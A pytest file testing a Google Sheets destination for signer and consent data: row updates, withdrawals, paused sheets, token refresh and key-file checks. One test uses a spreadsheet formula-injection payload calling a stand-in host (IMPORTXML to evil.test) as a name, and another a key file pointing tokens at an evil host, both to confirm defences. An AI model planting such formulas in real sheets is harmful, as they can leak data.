"""What is a spreadsheet's own: cells that are text, columns in any order, rows that are found again."""

from __future__ import annotations

import json
from typing import cast

import pytest

from integrations.google_sheets import GoogleSheets as Kind
from tests.integrations.people_samples import ROBOT, SPREADSHEET, key_file
from tests.integrations.place import Place
from tests.integrations.targets.google_sheets import HEADINGS, GoogleSheets
from tests.outbox.conftest import Sign
from widget_server.flows.change_consents import Choice, change_consents
from widget_server.flows.withdraw import withdraw

ZOE = "zoe.gagne@example.org"
KIND = "google-sheets"
here = pytest.mark.parametrize("target", [KIND], indirect=True)


def there(place: Place) -> GoogleSheets:
    return cast(GoogleSheets, place.target)


@here
async def test_a_formula_in_a_name_stays_text(place: Place, sign: Sign) -> None:
    await sign(name='=IMPORTXML("https://evil.test","//a")', organization="+1 (514) 555-0199")
    await place.deliver()
    (row,) = there(place).rows()
    assert row["name"] == '=IMPORTXML("https://evil.test","//a")'
    assert row["organization"] == "+1 (514) 555-0199"
    assert "USER_ENTERED" not in place.target.all_sent()


@here
async def test_everybody_has_a_row_and_contact_details_only_whoever_opted_in(place: Place, sign: Sign) -> None:
    await sign(email=ZOE, contact_opt_in=True)
    await sign(email="other@example.org", name="Other Person")
    await sign(email="third@example.org", name="Private Person", public=False)
    await place.deliver()
    shown = [(row["name"], row["email"], row["postal_code"], row["opted_in"]) for row in there(place).rows()]
    assert shown == [
        ("Zoë Gagné", ZOE, "H2X 1Y4", "yes"),
        ("Other Person", "", "", "no"),
        ("", "", "", "no"),
    ]


@here
async def test_a_flood_is_a_few_appends(place: Place, sign: Sign) -> None:
    for number in range(40):
        await sign(name=f"Person {number}")
    await place.deliver()
    assert [row["name"] for row in there(place).rows()] == [f"Person {number}" for number in range(40)]
    assert sum(":append" in one.path for one in place.target.asked) == 1
    assert there(place).bought == 1


@here
async def test_the_end_of_a_consent_empties_the_contact_cells_and_a_withdrawal_the_name(
    place: Place, sign: Sign
) -> None:
    id_ = await sign(email=ZOE, contact_opt_in=True)
    await sign(name="Somebody Else")
    await place.deliver()
    assert await change_consents(place.turns, place.letter, id_, [Choice("initiators", given=False)], "page") == 1
    place.clock.advance(5)
    await place.deliver()
    row, other = there(place).rows()
    assert (row["name"], row["status"], row["opted_in"]) == ("Zoë Gagné", "confirmed", "no")
    assert (row["email"], row["postal_code"], row["comment"]) == ("", "", "")
    assert await withdraw(place.turns, place.letter, id_)
    place.clock.advance(5)
    await place.deliver()
    row, unchanged = there(place).rows()
    assert (row["id"], row["name"], row["city"], row["status"]) == (id_, "", "", "withdrawn")
    assert unchanged == other


@here
async def test_columns_may_stand_in_any_order_beside_others(place: Place, sign: Sign) -> None:
    theirs = ["id", "called by", *reversed(HEADINGS[1:])]
    there(place).sheets["Sheet1"] = [theirs]
    id_ = await sign(email=ZOE, contact_opt_in=True)
    await place.deliver()
    there(place).sheets["Sheet1"][1][1] = "Sam, 21 June"
    assert await withdraw(place.turns, place.letter, id_)
    place.clock.advance(5)
    await place.deliver()
    (row,) = there(place).rows()
    assert (row["id"], row["email"], row["called by"]) == (id_, "", "Sam, 21 June")


@here
async def test_a_sheet_longer_than_one_read_is_searched_to_its_end(place: Place, sign: Sign) -> None:
    filler = [f"00000000-0000-4000-8000-{number:012}" for number in range(31_000)]
    there(place).sheets["Sheet1"] += [[id_] for id_ in filler]
    place.target.close_after(":append")
    await sign(email=ZOE, contact_opt_in=True)
    await place.deliver(1)
    place.clock.advance(10)
    await place.deliver()
    assert [row.get("email") for row in there(place).rows() if row.get("email")] == [ZOE]
    assert len(there(place).rows()) == 31_001


@here
async def test_a_heading_or_sheet_that_is_gone_pauses_and_keeps_the_work(place: Place, sign: Sign) -> None:
    there(place).sheets = {"Renamed": [list(HEADINGS)]}
    await sign()
    await place.deliver()
    status, reason = await place.status()
    assert (status, reason is not None and reason.startswith("not_there: sheet")) == ("paused", True)
    there(place).sheets = {"Sheet1": [[name for name in HEADINGS if name != "city"]]}
    await place.enable()
    await place.deliver()
    status, reason = await place.status()
    assert status == "paused"
    assert reason is not None
    assert "no column city" in reason
    there(place).sheets = {"Sheet1": [list(HEADINGS)]}
    await place.enable()
    await place.deliver()
    assert len(there(place).rows()) == 1


@here
async def test_a_spreadsheet_that_is_no_longer_shared_pauses_and_says_with_whom(place: Place, sign: Sign) -> None:
    there(place).shared = False
    await sign()
    await place.deliver()
    status, reason = await place.status()
    assert status == "paused"
    assert reason is not None
    assert ROBOT in reason
    (problem,) = await place.probed()
    assert (problem.option, ROBOT in problem.message) == ("spreadsheet", True)


@pytest.mark.parametrize("target", [(KIND, {"spreadsheet": "0" * 40})], indirect=True)
async def test_a_spreadsheet_that_is_gone_switches_the_destination_off(place: Place, sign: Sign) -> None:
    await sign()
    await place.deliver()
    assert (await place.status())[0] == "disabled"


@here
async def test_an_access_token_lasts_an_hour(place: Place, sign: Sign) -> None:
    await sign()
    await place.deliver()
    place.clock.advance(1800)
    await sign()
    await place.deliver()
    assert there(place).bought == 1
    place.clock.advance(1800)
    await sign()
    await place.deliver()
    assert there(place).bought == 2
    there(place).token = "revoked"
    await sign()
    place.clock.advance(5)
    await place.deliver()
    assert there(place).bought == 3
    assert len(there(place).rows()) == 4
    assert "PRIVATE KEY" not in place.target.all_sent()


BAD = {
    "no JSON": "nonsense",
    "another JSON": "{}",
    "a user's": json.dumps({"type": "authorized_user"}),
    "half of it": json.dumps({"type": "service_account", "client_email": ROBOT}),
    "a broken key": json.dumps({**json.loads(key_file()), "private_key": "no key at all"}),
}


@pytest.mark.parametrize("credentials", BAD.values(), ids=BAD.keys())
def test_a_key_file_that_is_none_is_refused_beside_everything_else(credentials: str) -> None:
    found = Kind().check("", {"credentials": credentials, "spreadsheet": "https://x", "map": "id =\nname = nobody"})
    assert sorted(one.option for one in found) == ["credentials", "map", "map", "spreadsheet"]
    assert Kind().check("", {"credentials": key_file(), "spreadsheet": SPREADSHEET}) == []
    elsewhere = {"credentials": key_file("https://tokens.evil.test/token"), "spreadsheet": SPREADSHEET}
    assert [one.option for one in Kind().check("", elsewhere)] == ["credentials"]
